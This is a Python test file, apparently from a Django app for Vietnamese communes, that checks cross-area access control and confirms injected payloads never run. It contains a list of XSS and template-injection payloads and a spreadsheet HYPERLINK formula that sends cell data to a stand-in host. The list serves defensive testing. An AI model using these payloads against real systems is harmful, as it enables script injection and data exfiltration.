"""The security sweep (issue 14, "Measure"): every URL that takes an object, for every role of commune A,
filled with commune B's objects; and injection payloads in every free-text field, rendered back.

Printed by `make test` through tests/measure.py:
  "cross-area requests tried: N, leaked: 0"   — each a real request whose answer is checked for B's data
                                                 and whose side effects (row counts, audit entries) are counted;
  "injection payloads tried: N, executed: 0"  — each payload written through a real path, then every page,
                                                 JSON answer and XLSX that shows it is checked.
"""

from __future__ import annotations

import datetime
import io
import re
import uuid

import pytest
from django.test import Client

from tests import measure

TODAY = datetime.date.today()

# B's data that must never reach a user of commune A: names, household codes, phones, texts.
B_NAME = "Đỗ Thị Bíẩn"
B_CODE = "HBX-7731"
B_PHONE = "0977001122"
B_MARKERS = (B_NAME, B_CODE, B_PHONE, "Nguyễn Thị Lan", "0911222333", "Bí mật phường B", "Tổ Bắc Giang B")


def _png() -> bytes:
    from PIL import Image

    buf = io.BytesIO()
    Image.new("RGB", (40, 30), (200, 30, 30)).save(buf, "PNG")
    return buf.getvalue()


@pytest.fixture
def world_b(people, users, area, settings, tmp_path):
    """Commune B holds one of everything that has an area: a household and residents, a team with a member
    who visited, a skill record, a device token, an export job with its file, a producer with a product,
    photo and channel, a story with a photo, a speaker cluster, a bulletin, a programme, an emergency, an
    alert and a local abbreviation."""
    from django.utils import timezone

    from ngoso.accounts.models import Role, User
    from ngoso.core.models import Job
    from ngoso.livelihoods import services as liv
    from ngoso.people.models import Ethnicity, Household, Resident
    from ngoso.radio import services as radio
    from ngoso.radio.models import Alert, LocalAbbreviation
    from ngoso.skills.models import Skill
    from ngoso.sync.models import DeviceToken
    from ngoso.teams.models import Member, Membership, Team
    from ngoso.visits import services as visits

    kinh = Ethnicity.objects.get(code="01")
    hb = Household.objects.create(code=B_CODE, village=area.vb1, alley="Ngõ Bí mật phường B", phone=B_PHONE,
                                  poverty_status="poor", poverty_year=2025)
    rb = Resident.objects.create(household=hb, full_name=B_NAME, sex="female", birth_year=1960, ethnicity=kinh,
                                 phone="0977001133", relation="head", disability=True)
    member_b = User(username="member_b", role=Role.MEMBER, place=area.vb1)
    member_b.set_password("x-password-123")
    member_b.save()
    team = Team.objects.create(place=area.vb1, level="village", name="Tổ Bắc Giang B")
    mb = Member.objects.create(place=area.vb1, full_name="Phạm Bí mật phường B", user=member_b)
    Membership.objects.create(member=mb, team=team, role="member", started_on="2024-01-01")
    skill = Skill.objects.get(catalogue__is_current=True, code="zalo-messaging")
    visit, _ = visits.record_visit(member_b, hb, visited_on=TODAY, note="Bí mật phường B",
                                   results=[visits.SkillResult(rb.pk, skill.pk, 1)])
    device, _ = DeviceToken.issue(member_b, "Redmi B")
    export = tmp_path / "b-export.xlsx"
    export.write_bytes(f"{B_NAME} {B_PHONE}".encode())
    job = Job.objects.create(kind="export_people", status=Job.Status.DONE, params={"place": area.b.code},
                             created_by=users.commune_b, place_path=area.b.path, file=str(export),
                             finished_at=timezone.now(), expires_at=timezone.now() + datetime.timedelta(hours=1))
    producer = liv.create_producer(hb, users.commune_b, name="Bánh Bí mật phường B", person=rb,
                                   description="Bí mật phường B", phone=B_PHONE)
    from ngoso.livelihoods.models import Product

    product = Product.objects.create(producer=producer, name="Bánh Bí mật phường B", description="Bí mật phường B")
    product_photo = liv.add_product_photo(product, _png(), "b.png", users.commune_b, caption="Bí mật phường B")
    channel = liv.add_channel(producer, users.commune_b, kind="social", platform="Zalo", since=TODAY,
                              address=B_PHONE)
    story = liv.save_story(None, {"title": "Bí mật phường B", "before": B_NAME, "change": "Sau."},
                           users.commune_b, resident=rb)
    story_photo = liv.add_story_photo(story, _png(), "s.png", users.commune_b, caption="Bí mật phường B")
    cluster, _ = radio.register_cluster(place=area.vb1, code="CLB-B1", name="Loa Bí mật phường B")
    bulletin = radio.create_bulletin(title="Bí mật phường B", text=f"Gọi {B_PHONE}.", category="health",
                                     place=area.b, author=users.commune_b)
    programme = radio.create_programme(place=area.b, title="Bí mật phường B", times=["06:00"], targets=[area.b],
                                       start_date=TODAY, bulletin=bulletin, user=users.commune_b)
    emergency = radio.send_emergency(title="Bí mật phường B", text=f"Gọi {B_PHONE}.", targets=[area.b],
                                     user=users.commune_b)
    alert = Alert.objects.create(kind="offline", cluster=cluster, place_path=area.vb1.path, key="b-offline",
                                 message="Loa Bí mật phường B")
    abbr = LocalAbbreviation.objects.create(place=area.b, abbreviation="BMB", reading="Bí mật phường B",
                                            created_by=users.commune_b)
    from ngoso.people.models import Consent
    from ngoso.poverty.models import AccessSite, PovertyReview, VillageSurvey

    Consent.objects.create(resident=rb, given=True)
    liv.record_public_consent(rb, "story", True, users.commune_b, naming="short", story=story)
    visits.assign(users.commune_b, [hb], mb)
    AccessSite.objects.create(code="SITE-B", kind=AccessSite.Kind.values[0], village=area.vb1)
    VillageSurvey.objects.create(village=area.vb1, mobile="4G")
    PovertyReview.objects.create(household=hb, year=2025, standard="2022-2025", area_type="urban", income=1234567,
                                 status="poor")
    from ngoso.people.models import Merge

    merge = Merge.objects.create(kind="resident", kept_id=rb.pk, kept_repr=B_NAME, lost_id=999999,
                                 lost_repr=f"{B_NAME} ({B_PHONE})", lost_record={"full_name": B_NAME}, moved={},
                                 place_path=area.vb1.path, merged_by="xa_b")
    from ngoso.people.models import MoveRequest

    move = MoveRequest.objects.create(uuid=uuid.uuid4(), household=hb, full_name=B_NAME, birth_year=1980,
                                      from_text="Phường khác", requested_by="xa_b")
    return type("WorldB", (), {"merge": merge, "move": move,
        "household": hb, "resident": rb, "member_user": member_b, "team": team, "visit": visit,
        "record": visit.skill_records.get(), "device": device, "job": job, "producer": producer,
        "product": product, "product_photo": product_photo, "channel": channel, "story": story,
        "story_photo": story_photo, "cluster": cluster, "bulletin": bulletin, "programme": programme,
        "emergency": emergency, "alert": alert, "abbr": abbr})


# --- enumerating the URL patterns ---------------------------------------------------------------------------

def _patterns():
    """Every (route, converters) of the site, admin included; routes joined from their resolvers."""
    from django.urls import URLResolver, get_resolver

    def walk(res, prefix=""):
        for p in res.url_patterns:
            if isinstance(p, URLResolver):
                yield from walk(p, prefix + str(p.pattern))
            else:
                route = prefix + str(p.pattern)
                yield re.sub(r"\(\?P<app_label>[^)]*\)", "(?P<app_label>…)", route)

    return sorted(set(walk(get_resolver())))


PARAM = re.compile(r"<(?:(\w+):)?(\w+)>")

# Patterns that take an object but cannot be filled with one of commune B's, each with its reason. A new URL that
# takes an argument lands here (the test fails) until it is filled in _fill() or given a reason below.
UNFILLED = {
    "lessons/<slug:skill>/": "a lesson is national content, not an area's",
    "lessons/<slug:skill>/audio/<slug:audience>/<slug:part>.ogg": "national lesson content",
    "lessons/<slug:skill>/handout.pdf": "national lesson content",
    "lessons/<slug:skill>/check/": "national lesson content",
    "lessons/<slug:skill>/edit/": "national lesson content (province admin only, tested in test_lessons)",
    "lessons/<slug:skill>/history/": "national lesson content",
    "lessons/<slug:skill>/restore/<int:pk>/": "national lesson content",
    "livelihoods/articles/<slug:slug>/": "farming articles are national content",
    "livelihoods/articles/<slug:slug>/edit/": "farming articles are national content",
    "livelihoods/articles/<slug:slug>/send/": "national content; sending to a B household is the household form",
    "livelihoods/articles/<slug:slug>/bulletin/": "national content",
    "api/v1/livelihoods/articles/<slug>": "farming articles are national content",
    "import/<slug:kind>/": "a kind of import, not an object (the rows' areas are checked in test_scoping)",
    "radio/device/v1/audio/<str:name>": "speaker-token API, not a login; tested in test_radio",
    "p/<str:code>/qr.<str:kind>": "a QR code of the public address only",
    "admin/(?P<url>.*)$": "the admin's catch-all, not an object",
    "admin/^(?P<app_label>…)/$": "an app index, not an object",
}


def _admin_models():
    from django.contrib import admin

    return {f"admin/{m._meta.app_label}/{m._meta.model_name}/": m for m in admin.site._registry}


def _b_object(model, w, area):
    """One of commune B's objects of ``model``, or None when the model has no area."""
    path = getattr(model, "SCOPE_PATH", None)
    if model._meta.label == "places.Place":
        return area.b
    if model._meta.label in ("accounts.User",):
        return w.member_user
    if not path:
        return None
    return model.objects.filter(**{f"{path}__startswith": area.b.path}).first()


def _fill(route, w, people, area):
    """The route with its arguments taken from commune B's objects, or None."""
    from ngoso.livelihoods.models import ProductPhoto

    by_route = {
        "places/<str:code>/": area.b.code,
        "households/<str:code>/": B_CODE,
        "households/<str:code>/producer/new/": B_CODE,
        "visit/<str:code>/": B_CODE,
        "residents/<uuid:uuid>/": w.resident.uuid,
        "livelihoods/producers/<uuid:uuid>/": w.producer.uuid,
        "livelihoods/stories/<uuid:uuid>/": w.story.uuid,
        "skill-records/<int:pk>/": w.record.pk,
        "teams/<int:pk>/": w.team.pk,
        "devices/<int:pk>/": w.device.pk,
        "jobs/<str:token>/": w.job.token,
        "duplicates/import/<str:token>/": w.job.token,
        "duplicates/undo/<int:pk>/": w.merge.pk,
        "moves/<int:pk>/": w.move.pk,
        "livelihoods/channels/<int:pk>/": w.channel.pk,
        "radio/clusters/<str:code>/": w.cluster.code,
        "radio/abbreviations/<int:pk>/": w.abbr.pk,
        "radio/bulletins/<int:pk>/": w.bulletin.pk,
        "radio/programmes/<int:pk>/": w.programme.pk,
        "radio/emergency/<int:pk>/": w.emergency.pk,
        "radio/alerts/<int:pk>/": w.alert.pk,
        "api/v1/places/<code>": area.b.code,
        "api/v1/livelihoods/places/<code>": area.b.code,
        "api/v1/sync/devices/<device_id>": w.device.pk,
        "api/v1/jobs/<token>": w.job.token,
        "p/<str:code>/": w.producer.public_code,
        "stories/<str:code>/": w.story.public_code,
    }
    out = route
    for prefix, value in by_route.items():
        if route.startswith(prefix):
            out = route.replace(prefix, PARAM.sub(str(value), prefix, count=1), 1)
            break
    subs = {"products/<int:pk>/": f"products/{w.product.pk}/",
            "<slug:kind>/<int:pk>/": None, "<int:pk>-<str:size>": None,
            "<slug:action>/": "approve/", "<slug:size>/": "thumb/"}
    if route.startswith("livelihoods/photos/<slug:kind>/<int:pk>/"):
        out = out.replace("<slug:kind>/<int:pk>/", f"product/{w.product_photo.pk}/")
    if route == "p/<str:code>/img/<int:pk>-<str:size>":
        out = f"p/{w.producer.public_code}/img/{w.product_photo.pk}-thumb"
    if route == "stories/<str:code>/img/<int:pk>-<str:size>":
        out = f"stories/{w.story.public_code}/img/{w.story_photo.pk}-thumb"
    for k, v in subs.items():
        if v and k in out:
            out = out.replace(k, v)
    assert ProductPhoto.objects.filter(pk=w.product_photo.pk).exists()
    if route == "admin/accounts/user/<id>/password/":
        return f"/admin/accounts/user/{w.member_user.pk}/password/"
    if route == "admin/r/<path:content_type_id>/<path:object_id>/":
        from django.contrib.contenttypes.models import ContentType

        return f"/admin/r/{ContentType.objects.get_for_model(w.resident).pk}/{w.resident.pk}/"
    for prefix, model in _admin_models().items():
        if route.startswith(prefix + "<path:object_id>/"):
            obj = _b_object(model, w, area)
            if obj is None:
                return None
            out = route.replace("<path:object_id>", str(obj.pk))
    return None if PARAM.search(out) else "/" + out


# --- what counts as a leak ----------------------------------------------------------------------------------

def _counts():
    """Rows of every project model (audit entries among them), to see that a refused request wrote nothing."""
    from django.apps import apps
    from django.db import connection

    global _COUNT_SQL
    if _COUNT_SQL is None:
        tables = sorted({m._meta.db_table for m in apps.get_models()
                         if m.__module__.startswith("ngoso.") and m._meta.label not in ("sync.DeviceToken",)})
        q = connection.ops.quote_name
        _COUNT_SQL = (tables, "SELECT " + ", ".join(f"(SELECT COUNT(*) FROM {q(t)})" for t in tables))
    tables, sql = _COUNT_SQL
    with connection.cursor() as cur:
        cur.execute(sql)
        return dict(zip(tables, cur.fetchone()))


_COUNT_SQL = None


def _body(resp) -> str:
    if getattr(resp, "streaming", False):
        return b"".join(resp.streaming_content).decode("utf-8", "replace")
    return resp.content.decode("utf-8", "replace")


def _carries_b(text: str) -> list[str]:
    return [m for m in B_MARKERS if m in text]


def _answer(client, method, url):
    """(status after redirects to success, text of the final answer)."""
    data = {"name": "x", "title": "x", "text": "x", "level": "2", "action": "approve", "note": "x",
            "reason": "x", "confirm": "yes", "visited_on": TODAY.isoformat(), "reading": "x",
            "abbreviation": "XX", "description": "x", "change": "x", "before": "x", "given": "1"}
    if method == "GET":
        r = client.get(url, follow=True)
    else:
        r = client.post(url, data)
    text = _body(r)
    if r.status_code in (301, 302, 303) and method == "POST":
        follow = client.get(r["Location"], follow=True)
        return follow.status_code, text + _body(follow)
    return r.status_code, text


def _other_province_admin(area):
    from ngoso.accounts.models import Role, User
    from ngoso.places.models import Place, PlaceType
    from ngoso.places.services import REFORM_DATE

    other = Place.objects.create(code="99", official_code="99", name="Tỉnh Khác", short_name="Khác",
                                 type=PlaceType.objects.get(code="tinh"), valid_from=REFORM_DATE)
    u = User(username="tinh_khac", role=Role.PROVINCE_ADMIN, place=other, is_staff=True)
    u.set_password("x-password-123")
    u.save()
    return u


def test_no_role_of_commune_a_reaches_commune_b(world_b, people, users, area):
    """Every object URL × every role of A (and an admin of another province) × GET and POST: no answer
    carries B's data and no refused request writes anything."""
    from django.contrib.auth.models import Permission

    # commune staff hold the admin's model permissions, so the admin's own scoping is what is tested
    users.commune_a.user_permissions.add(*Permission.objects.filter(content_type__app_label__in=[
        "people", "teams", "visits", "livelihoods", "radio", "sync", "poverty", "core", "accounts"]))
    roles = {"other province admin": _other_province_admin(area), "commune staff": users.commune_a,
             "radio operator": users.radio, "team leader": users.leader, "member": users.member,
             "viewer": users.viewer}
    routes = [r for r in _patterns() if PARAM.search(r)]
    urls, unfilled = {}, set()
    for route in routes:
        url = _fill(route, world_b, people, area)
        if url is None:
            unfilled.add(route)
        else:
            urls[route] = url
    admin_unfilled = {r for r in unfilled if r.startswith("admin/") and r not in UNFILLED}
    # admin object pages of models without an area (catalogues, national content) cannot be B's
    no_area = {r for r in admin_unfilled
               if (m := next((m for p, m in _admin_models().items() if r.startswith(p)), None)) is not None
               and _b_object(m, world_b, area) is None and not getattr(m, "SCOPE_PATH", None)}
    assert unfilled - no_area == set(UNFILLED), (
        "URL patterns that take an object and are neither filled nor listed with a reason: "
        f"{sorted(unfilled - no_area - set(UNFILLED))}; listed but filled now: {sorted(set(UNFILLED) - unfilled)}")

    # the API paths of the OpenAPI document are among the patterns swept
    c = Client()
    c.force_login(users.commune_a)
    doc = c.get("/api/v1/openapi.json").json()
    for path in doc["paths"]:
        if "{" in path:
            route = re.sub(r"\{(\w+)\}", r"<\1>", path.lstrip("/"))
            assert route in urls or route in UNFILLED, route

    # the detector fires: B's own staff see B's data on the same URLs
    own = Client()
    own.force_login(users.commune_b)
    seen = [u for u in (urls["households/<str:code>/"], urls["residents/<uuid:uuid>/"],
                        urls["livelihoods/producers/<uuid:uuid>/"], urls["radio/bulletins/<int:pk>/"])
            if _carries_b(_answer(own, "GET", u)[1])]
    assert len(seen) == 4, seen
    before = _counts()
    own.post(urls["radio/abbreviations/<int:pk>/"], {"abbreviation": "BMB", "reading": "bí mật phường bê"})
    assert _counts() != before, "an allowed write is seen (its audit entry)"

    leaks, errors = [], []
    tried = 0
    for role, user in roles.items():
        client = Client()  # CSRF checks are off in the test client: every POST carries a valid token in effect
        client.force_login(user)
        for route, url in urls.items():
            if route.startswith("admin/") and not user.is_staff:
                continue  # the admin lets in staff only (commune staff and the other province's admin here)
            for method in ("GET", "POST"):
                before = _counts()
                status, text = _answer(client, method, url)
                after = _counts()
                tried += 1
                carried = _carries_b(text) if 200 <= status < 400 else []
                wrote = {k: (before[k], after.get(k)) for k in before if before[k] != after.get(k)}
                if status >= 500:
                    errors.append((role, method, url, status))
                if carried or wrote:
                    leaks.append((role, method, url, status, carried, wrote))
    measure.add("cross-area requests tried", tried, leaked=len(leaks))
    assert not leaks, "\n".join(map(str, leaks[:30]))
    assert not errors, errors[:30]  # a refusal is a 403/404 (or a login), never a server error


# --- injection payloads ------------------------------------------------------------------------------------

# Each sets window.__xss if a browser ever runs it; "{{7*7}}" would render 49 through a template engine.
PAYLOADS = (
    "<script>window.__xss=1</script>",
    '"><img src=x onerror=window.__xss=1>',
    "javascript:window.__xss=1",
    "x{{7*7}}y",
    "</textarea><script>window.__xss=1</script>",
    "<svg onload=window.__xss=1><svg/onload=window.__xss=1>",
    "=HYPERLINK(\"http://x.invalid/?\"&A1,\"x\")",
    "'><svg><script>window.__xss=1</script>",
)


URL_ATTRS = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcdoc"}


class _Executed(__import__("html.parser", fromlist=["HTMLParser"]).HTMLParser):
    """Finds what a browser would run: a script holding the flag, an on* handler or a javascript: link."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found, self._in_script = [], False

    def handle_starttag(self, tag, attrs):
        self._in_script = tag == "script"
        for name, value in attrs:
            v = (value or "").strip().lower()
            if "__xss" in v and (name.startswith("on") or (name in URL_ATTRS and v.startswith("javascript:"))):
                self.found.append(f"<{tag} {name}={value!r}>")

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag):
        self._in_script = False

    def handle_data(self, data):
        if self._in_script and "__xss" in data:
            self.found.append(f"<script>{data[:60]}")


def _executed_in_html(text: str) -> list[str]:
    p = _Executed()
    p.feed(text)
    p.close()
    if "x49y" in text:
        p.found.append("{{7*7}} rendered as 49")
    return p.found


def _formula_cells(data: bytes) -> list[str]:
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(data))
    return [f"{ws.title}!{c.coordinate}" for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if c.data_type == "f"]


@pytest.fixture
def injected(people, users, area):
    """The payloads written through the real paths: a spreadsheet import (names, alleys, addresses), the visit
    form (note), the radio API and form (bulletin title and text), the livelihoods forms (producer, product,
    story), the local-abbreviation form and the admin (team name). Returns what was written where."""
    import json

    from django.contrib.auth.models import Permission

    from ngoso.people.io import import_people
    from ngoso.teams.models import Member, Membership, Team
    from tests.helpers import csv_bytes

    written = []
    rows = []
    for i, p in enumerate(PAYLOADS):
        rows.append({"Mã hộ": f"HX{i}", "Mã thôn": area.va1.code, "Ngõ": PAYLOADS[(i + 1) % len(PAYLOADS)][:60],
                     "Địa chỉ": PAYLOADS[(i + 2) % len(PAYLOADS)], "Họ và tên": p, "Giới tính": "Nữ",
                     "Năm sinh": 1970, "Dân tộc": "Kinh", "Quan hệ với chủ hộ": "Chủ hộ",
                     "Đồng ý cho ghi nhận thông tin": "Có"})
    import_people(csv_bytes(rows), "x.csv", users.commune_a)
    written += [("import", f"resident name / alley / address HX{i}") for i in range(len(PAYLOADS))] * 3

    team = Team.objects.create(place=area.va1, level="village", name="Tổ")
    for u in (users.member, users.leader):
        m = Member.objects.create(place=area.va1, full_name=u.username, user=u)
        Membership.objects.create(member=m, team=team, role="leader" if u == users.leader else "member",
                                  started_on="2024-01-01")
    from ngoso.people.models import Household, Resident
    from ngoso.visits import services as visits

    visits.assign(users.commune_a, list(Household.objects.filter(code__in=["H1", "HX0", "HX1", "HX2", "HX7"])),
                  Member.objects.get(user=users.member))
    staff = Client()
    staff.force_login(users.commune_a)
    users.commune_a.user_permissions.add(*Permission.objects.filter(codename__in=["change_team", "view_team"]))
    r = staff.post(f"/admin/teams/team/{team.pk}/change/", {"place": area.va1.pk, "level": "village",
                                                            "name": PAYLOADS[0] + PAYLOADS[1], "active": "on"})
    assert r.status_code == 302, r.content.decode()[-2000:]
    written.append(("admin", "team name"))

    member = Client()
    member.force_login(users.member)
    for i, code in enumerate(("H1", "HX0", "HX1")):
        # someone present: an empty visit is refused (issue 18)
        head = Resident.objects.filter(household__code=code).order_by("-relation").first()
        r = member.post(f"/visit/{code}/", {"visited_on": TODAY.isoformat(), "present": [head.pk],
                                            "note": PAYLOADS[i] + PAYLOADS[i + 3]})
        assert r.status_code == 302, r.content.decode()[-1500:]
        written.append(("visit form", f"note {code}"))

    # a phone's sync: a visit note and a household's alley, address and house number
    import json as _json

    from ngoso.sync.models import DeviceToken

    _, token = DeviceToken.issue(users.member, "Redmi")
    hx2 = Household.objects.get(code="HX2")
    records = [{"type": "visit", "uuid": str(uuid.uuid4()), "household": "HX2", "visited_on": TODAY.isoformat(),
                "present": [str(Resident.objects.filter(household=hx2).first().uuid)], "results": [],
                "note": PAYLOADS[5] + PAYLOADS[2]},
               {"type": "household", "uuid": str(uuid.uuid4()), "household": "HX2",
                "changes": {"alley": {"from": hx2.alley, "to": PAYLOADS[0][:60]},
                            "address": {"from": hx2.address, "to": PAYLOADS[1]},
                            "house_number": {"from": hx2.house_number, "to": PAYLOADS[6][:20]}}}]
    r = Client(HTTP_AUTHORIZATION=f"Bearer {token}").post(
        "/api/v1/sync/push", _json.dumps({"sent_at": datetime.datetime.now(datetime.timezone.utc).isoformat(),
                                          "records": records}), content_type="application/json")
    assert r.status_code == 200 and [x["status"] for x in r.json()["results"]] == ["created", "created"], r.content
    written += [("sync", "visit note HX2"), ("sync", "alley, address, house number HX2")]

    for i, p in enumerate(PAYLOADS):
        r = staff.post("/api/v1/radio/bulletins", json.dumps({"category": "health", "place": area.a.code,
                                                              "title": p, "text": PAYLOADS[-1 - i]}),
                       content_type="application/json")
        assert r.status_code in (200, 201), r.content[:300]
        written.append(("API", "bulletin title and text"))

    r = staff.post(f"/households/H1/producer/new/", {"name": PAYLOADS[0] + PAYLOADS[1], "kind": "crops",
                                                     "person": people.r1.pk, "description": "\n".join(PAYLOADS),
                                                     "messenger_url": "javascript:window.__xss=1"})
    if r.status_code == 302:
        written.append(("form", "producer name, description, messenger link"))
    else:  # a javascript: link refused with a clear message is fine; the texts go in without it
        body = r.content.decode()
        assert measure.tried("bad inputs tried and answered clearly", "URL" in body or "liên kết" in body.lower()
                             or "messenger" in body.lower()), body[-1500:]
        r = staff.post(f"/households/H1/producer/new/", {"name": PAYLOADS[0] + PAYLOADS[1], "kind": "crops",
                                                         "person": people.r1.pk, "description": "\n".join(PAYLOADS)})
        assert r.status_code == 302, r.content.decode()[-1500:]
        written.append(("form", "producer name, description"))
    from ngoso.livelihoods.models import Producer, SuccessStory

    producer = Producer.objects.get(household=people.h1)
    r = staff.post(f"/livelihoods/producers/{producer.uuid}/products/new/",
                   {"name": PAYLOADS[1], "unit": "kg", "season": PAYLOADS[3][:80], "description": PAYLOADS[4],
                    "other_certifications": PAYLOADS[5]})
    assert r.status_code == 302, r.content.decode()[-1500:]
    written.append(("form", "product name, season, description, certifications"))
    r = staff.post(f"/residents/{people.r1.uuid}/story/new/",
                   {"title": PAYLOADS[0], "before": PAYLOADS[1] + PAYLOADS[4], "change": PAYLOADS[5] + PAYLOADS[3],
                    "quote": PAYLOADS[7], "figures": PAYLOADS[2], "income_period": "month"})
    assert r.status_code == 302, r.content.decode()[-1500:]
    written.append(("form", "story title, before, change, quote, figures"))
    r = staff.post("/radio/abbreviations/", {"place": area.a.code, "abbreviation": "XSS",
                                             "reading": PAYLOADS[0].replace("1", "true"), "note": PAYLOADS[1]})
    assert r.status_code in (200, 302), r.content.decode()[-1500:]
    from ngoso.radio.models import LocalAbbreviation

    assert LocalAbbreviation.objects.filter(abbreviation="XSS").exists()
    written.append(("form", "local abbreviation reading and note"))
    return type("Injected", (), {"team": team, "producer": producer, "written": written,
                                 "story": SuccessStory.objects.get(title=PAYLOADS[0])})


STORED_TEXTS = {"people.Resident": ["full_name"], "people.Household": ["alley", "address", "house_number"],
                "visits.Visit": ["note"], "radio.Bulletin": ["title", "text"], "teams.Team": ["name"],
                "livelihoods.Producer": ["name", "description"],
                "livelihoods.Product": ["name", "season", "description", "other_certifications"],
                "livelihoods.SuccessStory": ["title", "before", "change", "quote", "figures"],
                "radio.LocalAbbreviation": ["reading", "note"]}


def _payloads_stored() -> int:
    """How many (field value, payload) pairs the database holds: what the paths above really wrote."""
    from django.apps import apps

    n = 0
    for label, fields in STORED_TEXTS.items():
        for row in apps.get_model(label).objects.values_list(*fields):
            n += sum(1 for v in row for p in PAYLOADS if v and p[:20].replace("1", "") in v.replace("1", ""))
    return n


def test_injection_payloads_never_run(injected, people, users, area, tmp_path):
    """Every page, JSON answer and XLSX that shows the payloads: nothing a browser would run, no 49, no formula."""
    from ngoso.people.io import export_people
    from ngoso.people.models import Resident
    from ngoso.radio.models import Bulletin

    staff, member = Client(), Client()
    staff.force_login(users.commune_a)
    member.force_login(users.member)
    pages = [f"/households/HX{i}/" for i in range(len(PAYLOADS))] + ["/households/H1/"]
    pages += [f"/residents/{r.uuid}/" for r in Resident.objects.filter(household__code__startswith="HX")]
    pages += [f"/places/{area.va1.code}/", f"/places/{area.a.code}/", "/search/?q=script", "/search/?q=svg",
              f"/teams/{injected.team.pk}/", f"/teams/{injected.team.pk}/assign/", "/radio/bulletins/",
              "/radio/abbreviations/", "/livelihoods/", f"/livelihoods/producers/{injected.producer.uuid}/",
              f"/livelihoods/stories/{injected.story.uuid}/", "/livelihoods/stories/", "/radio/",
              f"/livelihoods/stories/{injected.story.uuid}/edit/", f"/livelihoods/producers/{injected.producer.uuid}/edit/",
              f"/places/{area.a.code}/dashboard/", "/admin/teams/team/", "/radio/programmes/new/"]
    pages += [f"/radio/bulletins/{b.pk}/" for b in Bulletin.objects.all()]
    pages += [f"/radio/bulletins/{b.pk}/edit/" for b in Bulletin.objects.all()[:2]]
    member_pages = ["/today/", "/app/", "/visit/HX0/", "/visit/H1/", "/teams/"]
    executed, tried = [], 0
    for client, urls in ((staff, pages), (member, member_pages)):
        for url in urls:
            r = client.get(url, follow=True)
            assert r.status_code == 200, (url, r.status_code)
            text = _body(r)
            found = [p for p in PAYLOADS if p in text]  # unescaped, verbatim
            found = [p for p in found if "<" in p]  # "{{7*7}}" shown as typed is fine; "x49y" is not
            tried += 1
            if _executed_in_html(text) or found:
                executed.append((url, _executed_in_html(text), found))
    # JSON: served as JSON (a browser never renders it as HTML), payloads intact as text
    from ngoso.sync.models import DeviceToken

    _, token = DeviceToken.issue(users.member, "Redmi")
    pulled = Client(HTTP_AUTHORIZATION=f"Bearer {token}").get("/api/v1/sync/pull")
    json_answers = [pulled, staff.get("/api/v1/residents", {"q": "svg"}),
                    staff.get(f"/residents/{Resident.objects.get(household__code='HX0').uuid}/data.json"),
                    staff.get("/api/v1/radio/bulletins"), staff.get("/api/v1/livelihoods/producers")]
    for r in json_answers:
        tried += 1
        assert r.status_code == 200, r.content[:300]
        if not r["Content-Type"].startswith("application/json") or "x49y" in _body(r):
            executed.append((r.request["PATH_INFO"], r["Content-Type"]))
    assert "<script>window.__xss=1</script>" in pulled.content.decode() or "\\u003cscript" in pulled.content.decode()
    # XLSX: every value a text, never a formula
    out = tmp_path / "a.xlsx"
    export_people(area.a, users.commune_a, out)
    books = {"people export": out.read_bytes(),
             "dashboard": staff.get(f"/places/{area.a.code}/dashboard.xlsx").content,
             "abbreviations": staff.get(f"/radio/abbreviations/file.xlsx?place={area.a.code}").content}
    for name, data in books.items():
        tried += 1
        if cells := _formula_cells(data):
            executed.append((name, cells[:5]))
    assert any(PAYLOADS[6] in str(c.value) for ws in __import__("openpyxl").load_workbook(out).worksheets
               for row in ws.iter_rows() for c in row), "the formula payload is kept as text"
    stored = _payloads_stored()
    assert stored >= 60, stored
    measure.add("injection payloads tried", stored, executed=len(executed), **{"answers checked": tried})
    assert not executed, "\n".join(map(str, executed))


def test_the_injection_detector_sees_what_a_browser_would_run():
    """The checks above can fail: each way a payload runs is seen, each escaped form is not."""
    from openpyxl import Workbook

    for raw in ("<p><script>window.__xss=1</script>", '<img src=x onerror="window.__xss=1">',
                '<a href=" javascript:window.__xss=1">x</a>', "<svg/onload=window.__xss=1>", "<b>x49y</b>"):
        assert _executed_in_html(raw), raw
    for safe in ("<p>&lt;script&gt;window.__xss=1&lt;/script&gt;</p>", '<input value="javascript:window.__xss=1">',
                 "<p>&quot;&gt;&lt;img src=x onerror=window.__xss=1&gt;</p>", "<p>x{{7*7}}y</p>",
                 "<textarea>&lt;/textarea&gt;&lt;script&gt;window.__xss=1&lt;/script&gt;</textarea>"):
        assert not _executed_in_html(safe), safe
    wb = Workbook()
    wb.active.append(["=1+1", "'=1+1"])
    wb.active["C1"].value, wb.active["C1"].data_type = "=1+1", "s"
    buf = io.BytesIO()
    wb.save(buf)
    assert _formula_cells(buf.getvalue()) == ["Sheet!A1"]


@pytest.mark.browser
@pytest.mark.django_db(transaction=True)
def test_payloads_do_not_run_in_chromium(live_server, injected, people, users, area):
    """Real Chromium on the resident page, a bulletin page and the field app's list: the payloads are shown
    as text and the flag they would set stays undefined."""
    import os
    import shutil

    from django.conf import settings

    from ngoso.people.models import Resident
    from ngoso.radio.models import Bulletin
    from tests.browser import ARGS, CHROMIUM

    if not shutil.which(CHROMIUM):
        pytest.fail(f"Chromium not found at {CHROMIUM}: `make test` installs Debian's chromium package")
    os.environ.setdefault("DJANGO_ALLOW_ASYNC_UNSAFE", "true")
    from playwright.sync_api import sync_playwright

    def cookie(user):
        c = Client()
        c.force_login(user)
        return {"name": settings.SESSION_COOKIE_NAME, "value": c.cookies[settings.SESSION_COOKIE_NAME].value,
                "url": live_server.url}

    resident = Resident.objects.get(household__code="HX0")  # named "<script>window.__xss=1</script>"
    bulletin = Bulletin.objects.get(title=PAYLOADS[1])
    visits = [(users.commune_a, f"/residents/{resident.uuid}/", "window.__xss=1"),
              (users.commune_a, f"/radio/bulletins/{bulletin.pk}/", "onerror=window.__xss=1"),
              (users.member, "/app/", "window.__xss=1")]
    executed = []
    with sync_playwright() as p:
        b = p.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        try:
            control = b.new_page()  # the flag is seen when a payload does run
            control.set_content("<p>x</p><img src=x onerror=window.__xss=1>")
            control.wait_for_function("typeof window.__xss !== 'undefined'", timeout=5000)
            control.close()
            for user, path, shown in visits:
                ctx = b.new_context(viewport={"width": 360, "height": 640}, locale="vi-VN")
                ctx.add_cookies([cookie(user)])
                page = ctx.new_page()
                page.goto(live_server.url + path)
                page.wait_for_load_state("networkidle")
